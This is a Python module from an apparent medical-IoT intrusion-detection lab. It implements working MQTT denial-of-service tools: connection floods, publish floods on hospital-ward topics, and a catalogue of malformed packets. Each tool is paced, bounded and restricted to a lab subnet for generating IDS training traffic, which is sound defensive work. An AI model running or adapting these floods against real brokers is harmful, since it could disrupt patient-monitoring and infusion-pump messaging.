"""MQTT attack tools on raw TCP sockets: connect flood, publish flood, malformed packets.

Run inside an attacker namespace as
``python -m iomt_ids.lab.mqtt_tools {connect-flood,publish-flood,malformed} --broker ADDR
--rate R --count N --seconds S``. Every tool is paced (``rate`` per second) and bounded
(at most ``count`` actions and ``seconds`` of time), and refuses a broker address
outside the lab subnet. The packet builders are pure functions (MQTT 3.1.1).
"""

from __future__ import annotations

import argparse
import logging
import os
import random
import socket
import struct
import time
from collections import deque
from collections.abc import Callable

from iomt_ids.exceptions import ConfigError
from iomt_ids.lab.topology import check_lab_target

__all__ = [
    "MALFORMED",
    "TOOLS",
    "connect_flood",
    "encode_remaining_length",
    "mqtt_connect",
    "mqtt_publish",
    "malformed_flood",
    "publish_flood",
]

logger = logging.getLogger(__name__)


def encode_remaining_length(n: int) -> bytes:
    """MQTT variable-length integer.

    >>> encode_remaining_length(321).hex()
    'c102'
    """
    out = bytearray()
    while True:
        byte, n = n % 128, n // 128
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _utf8(s: str | bytes) -> bytes:
    b = s.encode() if isinstance(s, str) else s
    return struct.pack("!H", len(b)) + b


def mqtt_connect(client_id: str, keepalive: int = 60, proto: bytes = b"MQTT", level: int = 4) -> bytes:
    """A CONNECT packet (clean session)."""
    body = _utf8(proto) + bytes([level, 0x02]) + struct.pack("!H", keepalive) + _utf8(client_id)
    return b"\x10" + encode_remaining_length(len(body)) + body


def mqtt_publish(topic: str | bytes, payload: bytes, qos: int = 0, packet_id: int = 1) -> bytes:
    """A PUBLISH packet; ``qos`` goes into the header as given (3 makes it malformed)."""
    body = _utf8(topic) + (struct.pack("!H", packet_id) if qos else b"") + payload
    return bytes([0x30 | (qos << 1)]) + encode_remaining_length(len(body)) + body


_DISCONNECT = b"\xe0\x00"

#: Malformed packet variants: name -> (send a valid CONNECT first?, packet builder).
MALFORMED: dict[str, tuple[bool, Callable[[random.Random], bytes]]] = {
    "bad_protocol_name": (False, lambda r: mqtt_connect(f"m{r.randrange(10**6)}", proto=b"MQTX")),
    "bad_protocol_level": (False, lambda r: mqtt_connect(f"m{r.randrange(10**6)}", level=9)),
    "reserved_type_0": (False, lambda r: b"\x00\x02" + os.urandom(2)),
    "reserved_type_15": (False, lambda r: b"\xf0\x03" + os.urandom(3)),
    "overlong_length": (False, lambda r: b"\x10\xff\xff\xff\xff\x7f" + os.urandom(8)),
    "publish_before_connect": (False, lambda r: mqtt_publish("ward/hr/heart_rate", b"{}")),
    "publish_qos3": (True, lambda r: mqtt_publish("ward/pump/pump", os.urandom(r.randrange(4, 64)), qos=3)),
    "wildcard_topic": (True, lambda r: mqtt_publish("ward/#", b'{"bpm": -1}')),
    "invalid_utf8_topic": (True, lambda r: mqtt_publish(b"ward/\xff\xfe\xc0", b"x")),
    "truncated": (True, lambda r: b"\x30\x7f\x00\x10ward/spo2"),
    "bad_subscribe_flags": (True, lambda r: b"\x80\x08\x00\x01\x00\x03a/b\x00"),
    "random_bytes": (False, lambda r: os.urandom(r.randrange(8, 200))),
}


def _open(broker: str, port: int, timeout: float = 1.0) -> socket.socket:
    sock = socket.create_connection((broker, port), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def _paced(rate: float, count: int, seconds: float):
    start = time.monotonic()
    for i in range(count):
        due = start + i / rate
        now = time.monotonic()
        if now - start >= seconds:
            return
        if due > now:
            time.sleep(due - now)
        yield i


def connect_flood(
    broker: str, rate: float, count: int, seconds: float, port: int = 1883, hold: int = 300, seed: int = 0
) -> int:
    """Open connections and send CONNECT, holding up to ``hold`` open; return connects sent."""
    check_lab_target(broker)
    rng = random.Random(seed)
    held: deque[socket.socket] = deque()
    sent = 0
    try:
        for i in _paced(rate, count, seconds):
            try:
                sock = _open(broker, port, timeout=0.5)
                sock.sendall(mqtt_connect(f"flood-{seed}-{i}-{rng.randrange(10**6)}"))
                sent += 1
                held.append(sock)
            except OSError as exc:
                logger.debug("connect %d failed: %s", i, exc)
            while len(held) > hold:
                held.popleft().close()
    finally:
        for s in held:
            s.close()
    return sent


def publish_flood(
    broker: str, rate: float, count: int, seconds: float, port: int = 1883, seed: int = 0
) -> int:
    """Publish QoS-0 messages as fast as ``rate`` over one connection; return messages sent."""
    check_lab_target(broker)
    rng = random.Random(seed)
    sock: socket.socket | None = None
    sent = 0
    try:
        for i in _paced(rate, count, seconds):
            try:
                if sock is None:
                    sock = _open(broker, port)
                    sock.sendall(mqtt_connect(f"pub-{seed}-{rng.randrange(10**6)}"))
                    sock.setblocking(False)
                topic = rng.choice(["ward/hr/heart_rate", "ward/pump/pump", "ward/spo2/spo2", "ward/flood"])
                sock.sendall(mqtt_publish(topic, os.urandom(rng.randrange(16, 200))))
                sent += 1
                if i % 50 == 0:
                    try:
                        sock.recv(65536)  # drain anything the broker sent back
                    except BlockingIOError:
                        pass
            except OSError as exc:
                logger.debug("publish %d failed: %s", i, exc)
                if sock is not None:
                    sock.close()
                sock = None
    finally:
        if sock is not None:
            try:
                sock.setblocking(True)
                sock.sendall(_DISCONNECT)
            except OSError:
                pass
            sock.close()
    return sent


def malformed_flood(
    broker: str, rate: float, count: int, seconds: float, port: int = 1883, seed: int = 0
) -> int:
    """Open connections and send malformed MQTT packets, cycling the variants; return packets sent."""
    check_lab_target(broker)
    rng = random.Random(seed)
    names = sorted(MALFORMED)
    sent = 0
    for i in _paced(rate, count, seconds):
        connect_first, build = MALFORMED[names[i % len(names)]]
        try:
            with _open(broker, port, timeout=0.5) as sock:
                if connect_first:
                    sock.sendall(mqtt_connect(f"mal-{seed}-{i}"))
                    sock.recv(4)
                sock.sendall(build(rng))
                sent += 1
                try:
                    sock.recv(64)  # the broker answers or closes
                except OSError:
                    pass
        except OSError as exc:
            logger.debug("malformed %d failed: %s", i, exc)
    return sent


#: Tool name -> function.
TOOLS: dict[str, Callable[..., int]] = {
    "connect-flood": connect_flood,
    "publish-flood": publish_flood,
    "malformed": malformed_flood,
}


def main(argv: list[str] | None = None) -> None:
    """Entry point run inside an attacker's namespace."""
    p = argparse.ArgumentParser(description="iomt-ids lab MQTT attack tools")
    p.add_argument("tool", choices=sorted(TOOLS))
    p.add_argument("--broker", required=True)
    p.add_argument("--port", type=int, default=1883)
    p.add_argument("--rate", type=float, required=True)
    p.add_argument("--count", type=int, required=True)
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("--seed", type=int, default=0)
    a = p.parse_args(argv)
    if a.rate <= 0 or a.count <= 0 or a.seconds <= 0:
        raise ConfigError(f"--rate, --count and --seconds must be > 0; got {a.rate}, {a.count}, {a.seconds}.")
    logging.basicConfig(level=logging.INFO)
    n = TOOLS[a.tool](a.broker, a.rate, a.count, a.seconds, port=a.port, seed=a.seed)
    logger.info("%s sent %d", a.tool, n)


if __name__ == "__main__":
    main()
